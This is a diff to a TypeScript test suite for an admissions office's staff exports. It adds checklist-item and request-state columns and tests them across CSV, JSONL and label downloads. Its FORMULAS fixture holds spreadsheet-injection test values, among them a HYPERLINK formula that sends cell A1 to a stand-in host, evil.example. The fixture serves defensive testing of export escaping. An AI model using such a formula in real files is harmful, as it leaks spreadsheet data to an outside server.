@@ -12,7 +12,7 @@ import { unzipSync } from "fflate";
 import { PDFDocument } from "pdf-lib";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import { definitions, labelOf, optionsOf } from "../support/definitions";
-import type { Answers } from "../../src/engine/runtime";
+import { checklistFor, type Answers } from "../../src/engine/runtime";
 import { finishPdfCopy, pdfCopyOf, startPdfCopy } from "../../src/server/data/pdf-copies";
 import { storageKey } from "../../src/server/convert/documents";
 import { COPY_NOT_READY, PIECE_LENGTH, writeExport, ZIP_COPIES_STARTED } from "../../src/server/exports/export";
@@ -30,7 +30,11 @@ const BULK = 1_100;
 const LARGE_TERM = "EX02";
 const LARGE = 300;
 
-const FACTS = ["reference", "email", "status", "submitted_at", "review_status"];
+const FACTS = ["reference", "email", "status", "submitted_at", "review_status", "request_state"];
+/** The shipped checklist's items, a column each after the facts. */
+const CHECKLIST = definitions().checklist.map((item) => `checklist_${item.id}`);
+/** Each item's state as the export writes it for `answers` with nothing received: needed where listed. */
+const neededFor = (answers: Answers) => new Set(checklistFor(definitions(), answers).map((item) => item.id));
 const FORMULAS = { first_name: '=HYPERLINK("http://evil.example/?leak="&A1,"Click")', last_name: "+1", middle_name: "-2", address_line_1: "@SUM(A1:A9)", city: "\tTabbed" };
 
 /** Block 2 of an add-another group, answered as block 1 is (sibling_first_name → sibling_2_first_name). */
@@ -44,7 +48,7 @@ type Record_ = Record<string, string>;
 describe.each(databaseKinds)("the office's exports (%s)", (kind) => {
   let server: TestServer;
   let dataDir: string;
-  let admin: Client;
+  let admin: Awaited<ReturnType<typeof loggedInStaff>>;
   const people: Record<"alice" | "bob" | "carol", { id: number; email: string; answers: Answers; reference: string | null }> = {} as never;
 
   async function insert(email: string, answers: Answers, submitted: { reference: string; review: string } | null) {
@@ -110,7 +114,7 @@ describe.each(databaseKinds)("the office's exports (%s)", (kind) => {
       // A byte order mark first, so a spreadsheet reads the file as UTF-8.
       expect(r.body.startsWith("\uFEFFreference,")).toBe(true);
       const [header] = parse(r.body, { to_line: 1, bom: true }) as string[][];
-      expect(header).toEqual([...FACTS, ...definitions().owners.keys()]);
+      expect(header).toEqual([...FACTS, ...CHECKLIST, ...definitions().owners.keys()]);
       const at = (key: string) => header!.indexOf(key);
       expect(at("gender_desc")).toBe(at("gender") + 1);
       expect(at("sibling_first_name")).toBeLessThan(at("sibling_2_first_name"));
@@ -132,6 +136,25 @@ describe.each(databaseKinds)("the office's exports (%s)", (kind) => {
       expect([bob.hs_2_name, bob.hs_2_state_desc, bob.activity_2_name]).toEqual([complete.hs_name, complete.hs_state_desc, complete.activity_name]);
       expect([alice.hs_2_name, alice.activity_2_name]).toEqual(["", ""]);
       expect(bob.review_status).toBe("in review");
+    });
+
+    it("gives each checklist item's state (empty where the answers leave it out) and where requests for information stand", async () => {
+      const marked = definitions().checklist.find((item) => item.document === undefined && neededFor(people.bob.answers).has(item.id))!;
+      await server.db.query("INSERT INTO checklist_marks (application_id, item, marked_by, marked_at) VALUES ($1, $2, $3, $4)", [people.bob.id, marked.id, admin.staffId, server.clock.now]);
+      await server.db.query("UPDATE applications SET request_state = 'replied' WHERE user_id = $1", [people.bob.id]);
+      try {
+        const [alice, bob] = csv((await get(admin, `/staff/api/exports/csv?term=${TERM}&status=submitted`)).body) as [Record_, Record_];
+        expect([alice.request_state, bob.request_state]).toEqual(["", "replied"]);
+        for (const item of definitions().checklist) {
+          expect(alice[`checklist_${item.id}`], item.id).toBe(neededFor(complete).has(item.id) ? "needed" : "");
+          expect(bob[`checklist_${item.id}`], item.id).toBe(item === marked ? "received" : neededFor(people.bob.answers).has(item.id) ? "needed" : "");
+        }
+        const [, bobLine] = (await get(admin, `/staff/api/exports/jsonl?term=${TERM}&status=submitted`)).body.split("\n").map((line) => line && JSON.parse(line) as Record<string, unknown>);
+        expect(bobLine).toMatchObject({ request_state: "replied", checklist: expect.objectContaining({ [marked.id]: "received" }) });
+      } finally {
+        await server.db.query("DELETE FROM checklist_marks WHERE application_id = $1", [people.bob.id]);
+        await server.db.query("UPDATE applications SET request_state = NULL WHERE user_id = $1", [people.bob.id]);
+      }
     });
 
     it("writes a choice's label from the definitions, also where none was stored", async () => {
@@ -181,7 +204,7 @@ describe.each(databaseKinds)("the office's exports (%s)", (kind) => {
     const r = await get(admin, "/staff/api/exports/labels");
     expect(r.headers["content-disposition"]).toContain(`filename="application-labels-${TEST_DAY}.csv"`);
     const rows = csv(r.body);
-    expect(rows.map((row) => row.key)).toEqual([...FACTS, ...definitions().owners.keys()]);
+    expect(rows.map((row) => row.key)).toEqual([...FACTS, ...CHECKLIST, ...definitions().owners.keys()]);
     const byKey = new Map(rows.map((row) => [row.key, row]));
     const pageTitle = (key: string) => definitions().pages.find((page) => page.page === definitions().owners.get(key)!.page)!.title;
     expect(byKey.get("first_name")).toEqual({ key: "first_name", label: labelOf("first_name"), page: pageTitle("first_name") });
@@ -197,7 +220,7 @@ describe.each(databaseKinds)("the office's exports (%s)", (kind) => {
     const [alice, bob] = lines.slice(0, -1).map((line) => JSON.parse(line) as { answers: Answers } & Record<string, unknown>);
     expect(alice).toEqual({
       reference: people.alice.reference, email: "alice@example.com", status: "submitted", submitted_at: server.clock.now.toISOString(),
-      review_status: "received", answers: complete,
+      review_status: "received", request_state: null, checklist: Object.fromEntries([...neededFor(complete)].map((id) => [id, "needed"])), answers: complete,
     });
     expect(Object.keys(alice!.answers).indexOf("gender_desc")).toBe(Object.keys(alice!.answers).indexOf("gender") + 1);
     // Data, not a sheet: formula-looking answers as they are; the label written from the definitions.
